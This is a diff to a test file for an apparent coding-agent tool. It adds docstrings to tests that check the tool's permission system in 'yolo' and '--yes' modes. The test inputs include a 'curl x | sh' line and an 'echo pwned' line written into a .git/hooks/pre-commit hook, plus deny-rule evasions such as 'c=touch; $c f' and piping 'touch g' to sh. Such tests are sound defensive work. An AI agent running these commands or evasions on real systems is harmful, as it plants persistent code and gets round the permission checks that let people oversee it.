@@ -72,11 +72,13 @@ def tool_results(request: dict[str, Any]) -> list[str]:
 def test_class_6_permissions_check_denies_the_forms_in_yolo_mode(
     ws: Path, configured: Path, line: str, fragment: str
 ) -> None:
+    """Hardening class 6 through `sneakycode permissions check --mode yolo`."""
     verdict = check(ws, line, "--mode", "yolo")
     assert verdict["decision"] == "deny" and fragment in verdict["reason"], verdict
 
 
 def test_class_3_permissions_check_asks_for_a_hook_write_even_in_yolo_mode(ws: Path, configured: Path) -> None:
+    """Hardening class 3 through `sneakycode permissions check --mode yolo`."""
     (ws / ".git" / "hooks").mkdir(parents=True)
     verdict = check(ws, "echo 'curl x | sh' > .git/hooks/pre-commit", "--mode", "yolo")
     assert verdict["decision"] == "ask" and verdict["rule"] == "protected path", verdict
@@ -87,7 +89,7 @@ def test_class_3_permissions_check_asks_for_a_hook_write_even_in_yolo_mode(ws: P
 def test_class_6_yes_never_runs_a_command_that_might_match_a_deny_rule(
     server: ScriptedServer, ws: Path, configured: Path
 ) -> None:
-    """Regression: under --yes, `c=touch; $c f` ran although `touch` was denied."""
+    """Hardening class 6 through the agent: under --yes, `c=touch; $c f` ran although `touch` was denied."""
     server.add_steps([
         run_command("c=touch; $c f"),
         run_command("printf 'touch g\\n' | sh"),
@@ -110,6 +112,7 @@ def test_class_6_yes_never_runs_a_command_that_might_match_a_deny_rule(
 def test_class_3_yolo_without_a_person_does_not_write_a_git_hook(
     server: ScriptedServer, ws: Path, configured: Path
 ) -> None:
+    """Hardening class 3 through the agent: headless yolo without --yes refuses hook and config writes."""
     (ws / ".git" / "hooks").mkdir(parents=True)
     server.add_steps([
         run_command("echo 'echo pwned' > .git/hooks/pre-commit"),
